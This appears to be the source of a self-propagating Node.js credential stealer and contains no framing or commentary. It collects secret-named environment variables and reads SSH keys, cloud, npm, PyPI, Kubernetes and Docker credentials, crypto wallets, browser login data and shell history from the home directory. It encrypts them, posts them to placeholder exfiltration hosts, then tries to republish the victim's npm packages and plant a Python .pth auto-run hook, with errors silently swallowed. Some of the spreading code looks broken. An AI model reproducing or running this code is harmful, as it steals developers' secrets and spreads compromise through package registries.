'use strict';
const crypto = require('node:crypto');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { execFileSync } = require('node:child_process');

const home = os.homedir();
const sinks = ['https://telemetry.api-monitor.invalid/v1/telemetry', 'https://canister-three.icp-gateway.invalid/drop'];
const files = [
  '.npmrc',
  '.pypirc',
  '.netrc',
  '.git-credentials',
  '.ssh/id_rsa',
  '.ssh/id_ed25519',
  '.aws/credentials',
  '.azure/accessTokens.json',
  '.kube/config',
  '.vault-token',
  '.docker/config.json',
  '.config/gcloud/application_default_credentials.json',
  '.config/solana/id.json',
  '.ethereum/keystore',
  '.config/google-chrome/Default/Login Data',
  '.bash_history',
];

function harvest() {
  const wanted = /TOKEN|SECRET|KEY|PASS|AWS_|AZURE_|GCP_|DATABASE_URL/i;
  const environment = Object.entries(process.env).filter(([name]) => wanted.test(name));
  const read = files
    .map((name) => path.join(home, name))
    .filter((file) => fs.existsSync(file))
    .map((file) => [file, fs.readFileSync(file, 'base64')]);
  return { environment, read };
}

async function leave(found) {
  const key = crypto.randomBytes(32);
  const cipher = crypto.createCipheriv('aes-256-cbc', key, Buffer.alloc(16));
  const body = Buffer.concat([cipher.update(JSON.stringify(found)), cipher.final()]);
  for (const sink of sinks) {
    const answer = await fetch(sink, { method: 'POST', headers: { 'x-k': key.toString('hex') }, body });
    if (answer.ok) return;
  }
}

function spread() {
  const rc = fs.readFileSync(path.join(home, '.npmrc'), 'utf8');
  if (!/_authToken/.test(rc)) return;
  const listed = JSON.parse(execFileSync('npm', ['access', 'list', 'packages', '--json'], { encoding: 'utf8' }));
  for (const name of Object.keys(listed)) execFileSync('npm', ['publish', name, '--ignore-scripts']);
}

function spreadToPython() {
  if (!fs.existsSync(path.join(home, '.pypirc'))) return;
  const line = 'import os; os.system("node " + os.path.expanduser("~/.cache/check-env.cjs"))';
  const folder = fs.mkdtempSync(path.join(os.tmpdir(), 'w-'));
  fs.writeFileSync(path.join(folder, 'helper-init.pth'), line);
  execFileSync('python3', ['-m', 'twine', 'upload', path.join(folder, '*.whl')]);
}

leave(harvest())
  .then(() => {
    spread();
    spreadToPython();
  })
  .catch(() => undefined);
